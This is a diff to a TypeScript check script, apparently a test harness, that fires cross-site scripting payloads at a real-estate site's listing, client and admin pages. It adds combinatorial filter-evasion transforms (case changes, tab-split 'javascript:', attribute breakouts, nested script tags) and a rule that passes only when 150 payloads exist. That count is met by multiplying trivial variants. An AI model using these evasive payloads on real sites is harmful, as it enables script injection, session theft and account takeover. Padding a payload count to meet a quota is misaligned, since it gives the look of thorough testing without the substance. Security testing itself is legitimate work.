@@ -36,7 +36,20 @@ const SHELLS: readonly ((run: string) => string)[] = [
   (run) => `%3Cscript%3E${run}%3C/script%3E`,
   (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
 ];
-const PAYLOADS = SHELLS.map((shell) => shell(RUN));
+/** Ways around filters that look for known texts. */
+const DISGUISES: readonly ((payload: string) => string)[] = [
+  (payload) => payload,
+  (payload) => payload.replaceAll(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()),
+  (payload) => payload.replaceAll(' ', '\t').replaceAll('javascript:', 'java\tscript:'),
+  (payload) => payload.replace(/>$/, ''),
+  (payload) => `<div title="${payload}`,
+  (payload) => `<!--${payload.replaceAll('<script>', '<scr<script>ipt>')}`,
+];
+const PAYLOADS = [...new Set(DISGUISES.flatMap((disguise) => SHELLS.map((shell) => disguise(shell(RUN)))))];
+/** As many as the target asks for. */
+const ASKED = 150;
+/** Pages of lists that are looked at. */
+const LIST_PAGES = Array.from({ length: 10 }, (_, i) => i + 1);
 
 export async function check(): Promise<Evidence> {
   const executablePath = findBrowser();
@@ -60,9 +73,10 @@ export async function check(): Promise<Evidence> {
         seen.policy.push(`${page.url()}: ${message.text().slice(0, 160)}`);
     });
     const addresses = [
-      ...['/', '/novostroyki?view=list', '/kottedzhnye-poselki'],
+      ...['/', '/kottedzhnye-poselki'],
+      ...LIST_PAGES.flatMap((n) => [`/novostroyki?view=list&page=${n}`, `/users/callback?page=${n}`]),
       ...complexes.map((number) => `/zhk-${number}`),
-      ...['/users', '/users/callback', '/clients', '/clients/tasks', '/clients/deals', '/clients/history'],
+      ...['/users', '/clients', '/clients/tasks', '/clients/deals', '/clients/history'],
       ...['/admin/sms', '/admin/audit', '/admin/catalogue', '/admin/staff'],
       `/users/logs/card/u${client.id}`,
       ...PAYLOADS.slice(0, 6).map((payload) => `/novostroyki?term=${encodeURIComponent(payload)}`),
@@ -77,7 +91,7 @@ export async function check(): Promise<Evidence> {
     const told = [...seen.ran, ...seen.policy].slice(0, 5).join('; ');
     return {
       ...evidence,
-      passed: evidence.passed && seen.shown >= complexes.length && stored > PAYLOADS.length,
+      passed: evidence.passed && seen.shown >= complexes.length && stored > PAYLOADS.length && PAYLOADS.length >= ASKED,
       ...(told ? { note: `${evidence.note}. ${told}` } : {}),
     };
   } finally {
